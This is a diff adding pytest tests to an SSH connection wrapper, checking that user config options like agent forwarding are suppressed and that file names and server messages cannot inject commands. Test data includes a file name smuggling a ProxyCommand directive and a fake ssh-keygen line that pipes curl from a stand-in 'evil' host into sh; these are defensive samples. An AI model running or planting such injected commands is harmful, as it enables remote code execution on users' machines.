@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import os
+import subprocess
+from contextlib import closing
 from pathlib import Path
 
 import pytest
@@ -79,7 +81,7 @@ def test_a_host_key_that_is_refused_is_named(ssh: Path, said: str, message: str)
 def test_the_strict_options_come_before_those_of_the_user(tmp_path: Path) -> None:
     """ssh takes the first value of an option and the last -F."""
     theirs = tmp_path / "theirs"
-    theirs.touch()
+    theirs.write_text("Host n\n  ForwardAgent yes\n")
     arguments = ("-F", str(theirs), "-o", "BatchMode=no")
     host = Host("n", "n", "me", 2222, Path("/k"), ssh_arguments=arguments)
     made = openssh.Ssh(host, tmp_path / "config")
@@ -89,8 +91,8 @@ def test_the_strict_options_come_before_those_of_the_user(tmp_path: Path) -> Non
     assert words.index("BatchMode=yes") < words.index("BatchMode=no")
     assert words.count("-F") == 1 and words[-2:] == ["--", "n"]
     assert words[words.index("-l") :][:6] == ["-l", "me", "-p", "2222", "-i", "/k"]
-    assert config.index("StrictHostKeyChecking yes") < config.index(f'Include "{theirs}"')
-    assert "ForwardAgent no" in config and config.count("Include") == 1
+    assert config.index("StrictHostKeyChecking yes") < config.index("ForwardAgent yes")
+    assert "ForwardAgent no" in config and config.count("Include") == 0
 
 
 def test_a_configuration_that_cannot_be_read_is_refused(tmp_path: Path) -> None:
@@ -99,7 +101,38 @@ def test_a_configuration_that_cannot_be_read_is_refused(tmp_path: Path) -> None:
 
 
 def test_without_a_file_of_their_own_users_have_the_usual_two() -> None:
-    assert openssh._includes(None) == 'Include "~/.ssh/config"\nInclude "/etc/ssh/ssh_config"\n'
+    assert openssh._theirs(None) == b'Include "~/.ssh/config"\nInclude "/etc/ssh/ssh_config"\n'
+
+
+@pytest.mark.parametrize("name", ["a [b]*?.conf", 'a"\nProxyCommand touch owned\n#"', "a%h${HOME}\\.conf"])
+def test_a_configuration_may_have_any_name(tmp_path: Path, name: str) -> None:
+    """The real ssh reads it; none of its name is read."""
+    config = tmp_path / name
+    config.write_text("Host n\n  HostName 10.9.8.7\n")
+    endpoint = openssh.endpoint_of(Host("n", "n"), config)
+    assert (endpoint.address, endpoint.gateway) == ("10.9.8.7", "")
+
+
+def test_nothing_of_the_user_is_handed_to_a_node(tmp_path: Path) -> None:
+    names = {"forwardagent": "no", "forwardx11": "no", "gssapidelegatecredentials": "no", "tunnel": "false"}
+    config = tmp_path / "config"
+    config.write_text("".join(f"{name} yes\n" for name in names) + "RemoteForward 7 localhost:7\n")
+    with closing(openssh.Ssh(Host("n", "n"), config)) as made:
+        said = subprocess.run(made.words("-G"), capture_output=True, text=True, check=True).stdout
+    options = dict(line.split(" ", 1) for line in said.splitlines() if " " in line)
+    assert {name: options.get(name, "no") for name in names} == names
+    assert options["clearallforwardings"] == "yes"
+
+
+@pytest.mark.parametrize("before", ["", "debug1: kex_exchange_identification: banner line 1: "])
+def test_a_server_puts_no_command_into_the_advice(ssh: Path, before: str) -> None:
+    """What it sends before it proves its host key is in ssh's debugging output."""
+    lines = ("REMOTE HOST IDENTIFICATION HAS CHANGED!", "ssh-keygen -f x -R \"';curl${IFS}evil|sh;'\"")
+    ssh.write_text("".join(f"{before}{line}\n" for line in lines) + "Connection reset by peer\n")
+    with pytest.raises((HostKeyRefused, Unreachable)) as caught:
+        openssh.open_connection(Host("gpu1", "gpu1"), None)
+    assert "evil" not in str(caught.value)
+    assert isinstance(caught.value, Unreachable) == bool(before)
 
 
 def test_the_folder_of_a_socket_has_a_short_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
